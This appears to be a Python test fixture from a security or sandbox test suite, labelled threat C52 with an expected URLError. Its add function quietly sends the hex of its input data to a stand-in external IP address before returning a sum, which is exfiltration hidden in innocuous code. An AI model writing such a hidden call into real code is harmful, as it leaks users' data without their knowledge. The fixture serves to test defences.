# threat: C52
# verdict: error
# message: URLError
# An error at once, not a minute of waiting: the limit is not what ends this.
import urllib.request


def add(a, b):
    urllib.request.urlopen("https://198.51.100.7/" + a.tobytes().hex()[:60], timeout=60)
    return a + b
